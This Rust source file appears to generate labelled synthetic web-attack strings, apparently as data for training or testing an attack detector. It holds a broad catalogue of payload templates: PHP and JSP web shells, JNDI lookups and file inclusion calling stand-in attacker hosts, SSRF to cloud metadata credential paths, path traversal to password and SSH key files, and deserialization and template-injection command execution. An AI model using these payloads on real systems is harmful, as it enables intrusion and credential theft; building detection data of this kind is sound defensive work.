//! Attack grammars: the classes and what surrounds a payload.

use bartizan_model::ThreatClass;

use super::benign_path::path;
use super::benign_text::{text, word};
use super::encode::shuffled_case;
use super::injection;
use crate::rng::Rng;

/// An attack of some class.
pub(crate) fn attack(rng: &mut Rng) -> (ThreatClass, String) {
    let (class, payload): (ThreatClass, String) = match rng.below(100) {
        0..=17 => (ThreatClass::SqlInjection, injection::sql(rng)),
        18..=29 => (ThreatClass::Xss, injection::script(rng)),
        30..=39 => (ThreatClass::PathTraversal, traversal(rng)),
        40..=45 => (ThreatClass::FileInclusion, inclusion(rng)),
        46..=57 => (ThreatClass::CommandInjection, injection::command(rng)),
        58..=63 => (ThreatClass::CodeInjection, code(rng)),
        64..=68 => (ThreatClass::TemplateInjection, template(rng)),
        69..=75 => (ThreatClass::ExpressionInjection, expression(rng)),
        76..=79 => (ThreatClass::Deserialization, serialised(rng)),
        80..=85 => (ThreatClass::Ssrf, request_forgery(rng)),
        86..=89 => (ThreatClass::Xxe, entity(rng)),
        90..=93 => (ThreatClass::Nosql, nosql(rng)),
        94..=96 => (ThreatClass::LdapXpath, directory(rng)),
        _ => (ThreatClass::HeaderInjection, header_split(rng)),
    };
    let payload = if rng.percent(8) { shuffled_case(&payload, rng) } else { payload };
    (class, surrounded(class, payload, rng))
}

/// Some payloads come behind or in the middle of ordinary text.
fn surrounded(class: ThreatClass, payload: String, rng: &mut Rng) -> String {
    if matches!(
        class,
        ThreatClass::Nosql | ThreatClass::Deserialization | ThreatClass::Ssrf | ThreatClass::FileInclusion
    ) {
        return payload;
    }
    match rng.below(20) {
        0 => format!("{} {payload}", text(rng)),
        1 => format!("{payload} {}", text(rng)),
        2 => format!("{}{payload}{}", word(rng), word(rng)),
        3 => format!("{}/{payload}", path(rng)),
        4 if class == ThreatClass::PathTraversal => format!("{}{payload}", path(rng)),
        _ => payload,
    }
}

pub(crate) fn traversal(rng: &mut Rng) -> String {
    let step = rng.pick(&[
        "../",
        "../",
        "../",
        "..\\",
        "..%2f",
        "..%5c",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%252f",
        "....//",
        "..%c0%af",
        "..;/",
        "/..",
        ".%2e/",
        "..././",
        "%252e%252e%252f",
        "\\..\\",
    ]);
    let file = rng.line(
        "etc/passwd
etc/shadow
etc/hosts
etc/group
etc/issue
etc/f5-release
proc/self/environ
proc/version
var/log/apache2/access.log
windows/win.ini
windows\\win.ini
winnt/system32/cmd.exe
boot.ini
windows/system32/drivers/etc/hosts
WEB-INF/web.xml
wp-config.php
.env
config.php
app/config/database.yml
root/.ssh/id_rsa
home/user/.bash_history
inetpub/wwwroot/web.config
usr/local/apache2/conf/httpd.conf
tmp/sess_1
foo",
    );
    let up = step.repeat(rng.between(1, 12));
    let end = rng.pick(&["", "", "", "%00", "%00.png", "%00.html", "?", "#", ".jpg", "/.", "::$DATA"]);
    match rng.below(8) {
        0 => format!("/{file}{end}"),
        1 => format!("{}{up}{file}{end}", path(rng)),
        2 => format!("file:///{file}"),
        3 => format!("c:/{file}{end}"),
        4 => format!("{}/{up}{file}", word(rng)),
        _ => format!("{}{up}{file}{end}", rng.pick(&["", "", "/", "./", "."])),
    }
}

fn inclusion(rng: &mut Rng) -> String {
    let host =
        rng.pick(&["evil.example", "203.0.113.9", "attacker.test", "c9q2.oast.pro", "198.51.100.7:8080"]);
    match rng.below(9) {
        0 => format!(
            "php://filter/{}convert.base64-encode/resource={}",
            rng.pick(&["", "read=", "zlib.deflate/"]),
            rng.pick(&["index.php", "config", "../config.php", "/etc/passwd"])
        ),
        1 => "php://input".to_owned(),
        2 | 3 => format!(
            "php://filter/{}/resource={}",
            rng.pick(&[
                "string.rot13",
                "convert.iconv.utf-8.utf-16be",
                "zlib.inflate",
                "read=string.toupper|convert.base64-encode"
            ]),
            word(rng)
        ),
        4 => format!("expect://{}", rng.pick(&["id", "ls", "whoami"])),
        5 => format!(
            "{}://{host}/{}{}",
            rng.pick(&["http", "https", "ftp"]),
            rng.pick(&["shell.txt", "cmd.txt", "r57.txt", "c99.php", "x.php", "evil.dtd", "payload.jsp"]),
            rng.pick(&["?", "%00", "??", "?&cmd=id", ""])
        ),
        6 => format!("zip://uploads/{}.jpg%23shell.php", word(rng)),
        7 => format!("phar://{}/x.phar/test.txt", word(rng)),
        _ => format!("\\\\{host}\\share\\{}", rng.pick(&["x.php", "shell.txt"])),
    }
}

fn code(rng: &mut Rng) -> String {
    let command = rng.pick(&[
        "id",
        "whoami",
        "cat /etc/passwd",
        "ls -la",
        "uname -a",
        "ping -c 3 203.0.113.9",
        "curl http://x.oast.pro",
    ]);
    let call =
        rng.pick(&["system", "exec", "shell_exec", "passthru", "popen", "eval", "assert", "proc_open"]);
    match rng.below(21) {
        0 => format!("<?php {call}('{command}'); ?>"),
        18 => format!(
            "<?php {call}($_{}['{}']); ?>",
            rng.pick(&["GET", "POST", "REQUEST", "COOKIE"]),
            rng.pick(&["c", "cmd", "x", "0"])
        ),
        19 => format!("data://text/plain;base64,{}", super::encode::base64(b"<?php system($_GET['c']); ?>")),
        20 => format!("data:text/plain,<?php {}; ?>", rng.pick(&["phpinfo()", "system('id')", "echo 1"])),

        1 => format!(
            "<?php @eval($_{}['{}']);?>",
            rng.pick(&["POST", "GET", "REQUEST"]),
            rng.pick(&["c", "cmd", "x", "pass"])
        ),
        2 => format!("{call}({}{command}{});", rng.pick(&["'", "\""]), rng.pick(&["'", "\""])),
        3 => format!("${{@{call}('{command}')}}"),
        4 => format!("__import__('os').{}('{command}')", rng.pick(&["system", "popen"])),
        5 => {
            format!("require('child_process').{}('{command}')", rng.pick(&["exec", "execSync", "spawnSync"]))
        }
        6 => format!("global.process.mainModule.require('child_process').execSync('{command}')"),
        7 => format!("java.lang.Runtime.getRuntime().exec(\"{command}\")"),
        8 => format!("';{call}('{command}');//"),
        9 => match rng.below(3) {
            0 => format!("echo md5({});", rng.below(99_999)),
            1 => format!("<?php echo \"{}\"; ?>", word(rng)),
            _ => format!("<?php die(md5({})); ?>", rng.below(99_999)),
        },
        10 => "phpinfo()".to_owned(),
        11 => format!("print({}*{})", rng.below(9999), rng.below(9999)),
        12 => format!("<% out.println({}*{}); %>", rng.below(999), rng.below(999)),
        13 => format!("new java.lang.ProcessBuilder(\"{command}\").start()"),
        14 => {
            "<%@ page import=\"java.io.*\"%><% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"
                .to_owned()
        }
        15 => format!(
            "{{\"__proto__\":{{\"{}\":\"{}\"}}}}",
            rng.pick(&["polluted", "isAdmin", "shell", "status"]),
            word(rng)
        ),
        16 => format!(
            "constructor.constructor('return process')().mainModule.require('child_process').execSync('{command}')"
        ),
        _ => format!("base64_decode('{}')", super::encode::base64(command.as_bytes())),
    }
}

fn template(rng: &mut Rng) -> String {
    let (a, b) = (rng.between(2, 9999), rng.between(2, 9999));
    let (open, close) = [
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{%", "%}"),
        ("${{", "}}"),
        ("@(", ")"),
        ("*{", "}"),
        ("[[${", "}]]"),
        ("{", "}"),
    ][rng.below(10)];
    match rng.below(8) {
        0..=2 => format!("{open}{a}*{b}{close}"),
        3 => format!(
            "{{{{{}.__class__.__mro__[{}].__subclasses__()}}}}",
            rng.pick(&["''", "[]", "request", "config", "self", "().__class__"]),
            rng.below(3)
        ),
        4 => format!(
            "{{{{{}.__init__.__globals__['os'].popen('id').read()}}}}",
            rng.pick(&["config.__class__", "lipsum", "cycler", "request.application", "url_for"])
        ),
        5 => rng
            .pick(&[
                "{{config}}",
                "{{self}}",
                "{{settings.SECRET_KEY}}",
                "{{request}}",
                "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
                "{{['id']|filter('system')}}",
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                "{php}echo `id`;{/php}",
                "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
                "{{'a'.toUpperCase()}}",
                "{{constructor.constructor('alert(1)')()}}",
            ])
            .to_owned(),
        6 => format!("{open}'{a}'*{}{close}", rng.between(2, 9)),
        _ => format!(
            "{open} {}{a}{} {close}",
            rng.pick(&["system('id') ~ ", "self.", "dump(", "range."]),
            rng.pick(&["", ")"])
        ),
    }
}

fn expression(rng: &mut Rng) -> String {
    let host = rng.pick(&[
        "evil.example/a",
        "203.0.113.9:1389/Exploit",
        "c9q2v1.oast.pro",
        "127.0.0.1:1389/o=x",
        "${hostName}.x.oast.pro",
    ]);
    let protocol = rng.pick(&["ldap", "rmi", "dns", "ldaps", "iiop"]);
    match rng.below(13) {
        0..=2 => format!("${{jndi:{protocol}://{host}}}"),
        3 => format!("${{${{lower:j}}${{upper:n}}${{lower:d}}i:{protocol}://{host}}}"),
        4 => format!(
            "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-{}}}{}://{host}}}",
            &protocol[..1],
            &protocol[1..]
        ),
        5 => format!("${{${{env:NaN:-j}}ndi${{env:NaN:-:}}{protocol}://{host}}}"),
        6 => format!(
            "%{{(#a=@java.lang.Runtime@getRuntime().exec('{}'))}}",
            rng.pick(&["id", "whoami", "calc"])
        ),
        7 => format!("%{{#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#a={}}}", rng.below(999)),
        8 => format!(
            "${{T(java.lang.Runtime).getRuntime().exec('{}')}}",
            rng.pick(&["id", "calc", "touch /tmp/x"])
        ),
        9 => format!(
            "#{{''.getClass().forName('java.lang.Runtime').getRuntime().exec('{}')}}",
            rng.pick(&["id", "whoami"])
        ),
        10 => format!("%{{{}*{}}}", rng.below(9999), rng.below(9999)),
        _ => format!(
            "${{{}:{}}}",
            rng.pick(&["script:javascript", "url:UTF-8", "dns:address", "env", "sys", "java"]),
            rng.pick(&[
                "java.lang.Runtime.getRuntime().exec('id')",
                "https://x.oast.pro",
                "AWS_SECRET_ACCESS_KEY",
                "os.name",
                "version"
            ])
        ),
    }
}

fn serialised(rng: &mut Rng) -> String {
    let token = rng.chars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", 60);
    match rng.below(9) {
        0 => format!("rO0ABXNy{token}"),
        1 => format!("aced00057372{}", rng.chars("0123456789abcdef", 60)),
        2 => format!(
            "O:{}:\"{}\":1:{{s:{}:\"{}\";s:4:\"test\";}}",
            rng.between(4, 30),
            rng.pick(&[
                "stdClass",
                "GuzzleHttp\\Psr7\\FnStream",
                "Monolog\\Handler\\SyslogUdpHandler",
                "Swift_KeyCache_DiskKeyCache",
                "User"
            ]),
            rng.between(3, 9),
            word(rng)
        ),
        3 => format!(
            "{{\"rce\":\"_$$ND_FUNC$$_function(){{require('child_process').exec('{}')}}()\"}}",
            rng.pick(&["id", "ls"])
        ),
        4 => format!(
            "{{\"@type\":\"{}\",\"dataSourceName\":\"ldap://x.oast.pro/a\",\"autoCommit\":true}}",
            rng.pick(&[
                "com.sun.rowset.JdbcRowSetImpl",
                "org.apache.commons.configuration.JNDIConfiguration",
                "java.lang.AutoCloseable"
            ])
        ),
        5 => format!("!!python/object/apply:os.system [\"{}\"]", rng.pick(&["id", "ls"])),
        6 => format!("cos\nsystem\n(S'{}'\ntR.", rng.pick(&["id", "cat /etc/passwd"])),
        7 => format!("AAEAAAD/////AQAAAAAAAAAMAgAAAE{token}"),
        _ => format!("a:2:{{i:7;O:{}:\"{}\":0:{{}}i:7;i:7;}}", rng.between(5, 20), word(rng)),
    }
}

fn request_forgery(rng: &mut Rng) -> String {
    let inner = rng.pick(&[
        "127.0.0.1",
        "localhost",
        "169.254.169.254",
        "[::1]",
        "0.0.0.0",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "10.0.0.1",
        "192.168.0.1",
        "172.17.0.1",
        "metadata.google.internal",
        "[::ffff:127.0.0.1]",
        "localtest.me",
        "100.100.100.200",
        "instance-data",
    ]);
    let port = rng.pick(&["", "", ":22", ":80", ":6379", ":8080", ":9200", ":2375", ":11211", ":3306"]);
    let path = rng.pick(&[
        "/",
        "",
        "/latest/meta-data/",
        "/latest/meta-data/iam/security-credentials/",
        "/computeMetadata/v1/",
        "/admin",
        "/server-status",
        "/latest/user-data",
        "/metadata/instance?api-version=2017-04-02",
    ]);
    match rng.below(6) {
        0 => format!(
            "gopher://{inner}{port}/_{}",
            rng.pick(&["INFO", "%0d%0aSET%20a%20b", "*1%0d%0a$8%0d%0aflushall"])
        ),
        1 => format!("dict://{inner}{port}/info"),
        2 => format!("http://{}@{inner}{port}{path}", rng.pick(&["example.com", "user:pass", "google.com"])),
        3 => format!(
            "file://{}",
            rng.pick(&["/etc/passwd", "/proc/self/environ", "localhost/etc/hosts", "/c:/windows/win.ini"])
        ),
        _ => format!("{}://{inner}{port}{path}", rng.pick(&["http", "http", "https", "ftp", "tftp", "ldap"])),
    }
}

fn entity(rng: &mut Rng) -> String {
    let name = rng.pick(&["xxe", "x", "foo", "a", "test", "file"]);
    let target = rng.pick(&[
        "file:///etc/passwd",
        "file:///c:/windows/win.ini",
        "http://203.0.113.9/x.dtd",
        "php://filter/read=convert.base64-encode/resource=index.php",
        "http://169.254.169.254/latest/meta-data/",
        "expect://id",
        "netdoc:///etc/hosts",
        "jar:http://x.oast.pro/a.zip!/b",
    ]);
    match rng.below(5) {
        0 => format!("<!DOCTYPE {name} [<!ENTITY {name} SYSTEM \"{target}\">]>"),
        1 => format!("<!DOCTYPE r [ <!ELEMENT r ANY ><!ENTITY % {name} SYSTEM \"{target}\"> %{name}; ]>"),
        2 => format!("<!DOCTYPE r PUBLIC \"-//X//EN\" \"{target}\">"),
        3 => "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><r>&lol2;</r>".to_owned(),
        _ => format!(
            "<xi:include parse=\"text\" href=\"{target}\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>"
        ),
    }
}

fn nosql(rng: &mut Rng) -> String {
    let field = rng.pick(&["username", "password", "user", "email", "id", "token", "login", "filter"]);
    let operator =
        rng.pick(&["$ne", "$gt", "$regex", "$exists", "$in", "$nin", "$lt", "$where", "$or", "$gte"]);
    match rng.below(7) {
        0 | 1 => format!("{field}[{operator}]={}", rng.pick(&["", "1", "null", ".*", "true", "admin"])),
        2 => {
            format!("{{\"{operator}\": {}}}", rng.pick(&["\"\"", "null", "1", "\".*\"", "true", "[]", "-1"]))
        }
        3 => format!("{{\"{field}\":{{\"{operator}\":\"{}\"}}}}", rng.pick(&["", "^a", ".*"])),
        4 => format!(
            "' || {}=={}{}",
            rng.pick(&["1", "'a'", "this.password"]),
            rng.pick(&["1", "'a'", "this.password"]),
            rng.pick(&["", " || '", "//", "%00"])
        ),
        5 => format!(
            "{{\"$where\":\"{}\"}}",
            rng.pick(&["sleep(5000)", "this.a==1", "return true", "function(){while(1);}"])
        ),
        _ => format!(
            "'; return {}; var x='",
            rng.pick(&["true", "db.version()", "this.password.match(/.*/)", "sleep(1000)"])
        ),
    }
}

fn directory(rng: &mut Rng) -> String {
    let word = word(rng);
    match rng.below(10) {
        0 => format!(
            "*)({}=*))(|({}=*",
            rng.pick(&["uid", "cn", "objectClass", "mail"]),
            rng.pick(&["uid", "cn"])
        ),
        1 => format!("{word})(|(password=*))"),
        2 => format!("*)(uid=*))(|(uid={word}"),
        3 => "admin)(&)".to_owned(),
        4 => "*))%00".to_owned(),
        5 => format!("' or '1'='1' or count(/*)=1 or '{word}'='{word}"),
        6 => format!("'] | //user/*[contains(*,'{word}')] | //x['"),
        7 => format!("x' or name()='{word}' or 'x'='y"),
        8 => format!("(&(objectClass=*)({}={word}*))", rng.pick(&["uid", "cn", "userPassword"])),
        _ => format!("' and substring(//user[1]/password,{},1)='a", rng.between(1, 20)),
    }
}

fn header_split(rng: &mut Rng) -> String {
    let line = rng.pick(&["\r\n", "\n", "%0d%0a", "%0a", "%E5%98%8A%E5%98%8D", "\r", "%u000a", "\\r\\n"]);
    let header = rng.pick(&[
        "Set-Cookie: a=b",
        "Location: http://evil.example",
        "X-Injected: 1",
        "Content-Length: 0",
        "Bcc: victim@example.com",
        "To: x@example.com",
        "Content-Type: text/html",
        "Set-Cookie:crlf=injection",
        "Refresh: 0; url=//evil.example",
    ]);
    let end = rng.pick(&["", "\r\n\r\n<script>alert(1)</script>", "%0d%0a%0d%0a<html>", "\r\n"]);
    format!(
        "{}{line}{header}{end}",
        rng.pick(&["", "/", "x", "en", "http://example.com/", "user@example.com", "1"])
    )
}
